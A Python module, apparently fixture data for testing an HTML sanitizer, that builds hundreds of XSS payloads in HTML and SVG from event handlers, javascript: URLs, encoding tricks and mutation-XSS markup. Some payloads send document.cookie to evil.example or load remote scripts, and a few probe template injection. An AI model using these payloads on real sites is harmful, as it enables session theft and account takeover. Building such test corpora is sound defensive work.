"""Hostile HTML and SVG: every way known to us in which markup has been made to run something, in all combinations.

Each input tries to write RAN to the console, and then to open a dialog or to call another host.
"""

# ruff: noqa: E501 - each input in one piece

from collections.abc import Iterator
from itertools import product

RUN = ("console.log('RAN');alert('x')", "console.log('RAN');fetch('https://evil.example/?'+document.cookie)")
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "onanimationstart", "ontoggle", "onpointerenter",
    "onbegin", "onpageshow", "oncut", "onwheel",
)  # fmt: skip
TAGS = (
    '<img src=x {e}="{r}">', "<img src=x {e}={r}>", '<svg {e}="{r}"></svg>', '<body {e}="{r}">', '<details open {e}="{r}">x</details>',
    '<video {e}="{r}"><source></video>', '<input autofocus {e}="{r}">', '<p {e}="{r}" tabindex=1 autofocus>x</p>',
    '<table background="x" {e}="{r}"><tr><td>x</table>', '<marquee {e}="{r}">x</marquee>', '<a href="#" {e}="{r}">x</a>',
    '<svg><animate attributeName=x dur=1s {e}="{r}"/></svg>',
)  # fmt: skip
ADDRESSES = (
    "javascript:{r}", "JaVaScRiPt:{r}", " javascript:{r}", "java\tscript:{r}", "java\nscript:{r}", "java&#9;script:{r}",
    "&#106;avascript:{r}", "&#x6a;&#x61;vascript:{r}", "javascript&colon;{r}", "\x01javascript:{r}", "vbscript:{r}",
    "data:text/html,<script>{r}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgneCcpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{r}\"/>", "feed:javascript:{r}", "//evil.example/x.js",
)  # fmt: skip
HOLDERS = (
    '<a href="{a}">x</a>', "<a href='{a}'>x</a>", "<a href={a}>x</a>", '<iframe src="{a}"></iframe>', '<embed src="{a}">',
    '<object data="{a}"></object>', '<form action="{a}"><button>x</button></form>', '<button formaction="{a}">x</button>',
    '<link rel=stylesheet href="{a}">', '<base href="{a}">', '<img src="{a}">', '<svg><a xlink:href="{a}"><text>x</text></a></svg>',
    '<svg><use href="{a}"/></svg>', '<math><mi xlink:href="{a}">x</mi></math>', '<meta http-equiv=refresh content="0;url={a}">',
    '<area href="{a}">',
)  # fmt: skip
WHOLE = (
    "<script>{r}</script>", "<ScRiPt>{r}</sCrIpT>", "<script >{r}</script >", "<script/x>{r}</script>", "<<script>{r}//<</script>",
    "<scr<script>ipt>{r}</scr</script>ipt>", "<script src=https://evil.example/x.js></script>", "<script type=module>{r}</script>",
    "<noscript><p title='</noscript><img src=x onerror={r}>'>", "<style>@import 'https://evil.example/x.css';</style>",
    "<style></style><img src=x onerror={r}></style>", "<p style=\"background:url('javascript:{r}')\">x</p>",
    '<p style="width:expression({r})">x</p>', '<p style="-moz-binding:url(//evil.example/x)">x</p>',
    "<template><script>{r}</script></template>", "<iframe srcdoc=\"<script>{r}</script>\"></iframe>",
    "<svg><script>{r}</script></svg>", "<svg><script xlink:href='data:,{r}'/></svg>", "<svg><style><img src=x onerror={r}></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{r}</script>'></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:{r} /><a id=x><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={r}></style></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={r}></style></form>",
    "<!--><img src=x onerror={r}>-->", "<!--[if mso]><script>{r}</script><![endif]-->", "<!--if:1--><script>{r}</script><!--end-->",
    "<![CDATA[<script>{r}</script>]]>", "<?xml version='1.0'?><script>{r}</script>", "</td></tr></table><script>{r}</script>",
    "</textarea><script>{r}</script>", "</title><script>{r}</script>", "<plaintext><script>{r}</script>", "<xmp><script>{r}</script></xmp>",
    "{{{{token}}}}<script>{r}</script>", "{{{{ self.__init__ }}}}{{% for x in () %}}", "[Vorname|<script>{r}</script>]",
    "[Vorname|\"><img src=x onerror={r}>]", "<p title=\"[Vorname|x]\" onclick=\"{r}\">x</p>", "<a href=\"[Vorname|javascript:{r}]\">x</a>",
    "<img src=\"x` `<script>{r}</script>\"` `>", "<img \"\"\"><script>{r}</script>\">", "\u003cscript\u003e{r}\u003c/script\u003e",
    "<img src=x:x onerror={r}//", "<svg/onload={r}//", "<div><a href=javascript:{r}//", "<p>x<script\x00>{r}</script>",
)  # fmt: skip


def html() -> list[str]:
    """The inputs, each once, in a fixed order; well over five hundred."""
    return list(dict.fromkeys(_all()))


def svg() -> list[bytes]:
    """Whole SVG files that try the same."""
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40"'
    found = []
    for run, event in product(RUN, EVENTS):
        found.append(f'{head} {event}="{run}"><rect width="9" height="9" {event}="{run}"/></svg>')
    for run, holder in product(RUN, WHOLE[:8] + WHOLE[15:21]):
        found.append(f'{head}><rect width="9" height="9"/>{holder.format(r=run)}</svg>')
    return [text.encode() for text in dict.fromkeys(found)]


def _all() -> Iterator[str]:
    for tag, event, run in product(TAGS, EVENTS, RUN):
        yield tag.format(e=event, r=run)
    for holder, address, run in product(HOLDERS, ADDRESSES, RUN):
        yield holder.format(a=address.format(r=run))
    for whole, run in product(WHOLE, RUN):
        yield whole.format(r=run)
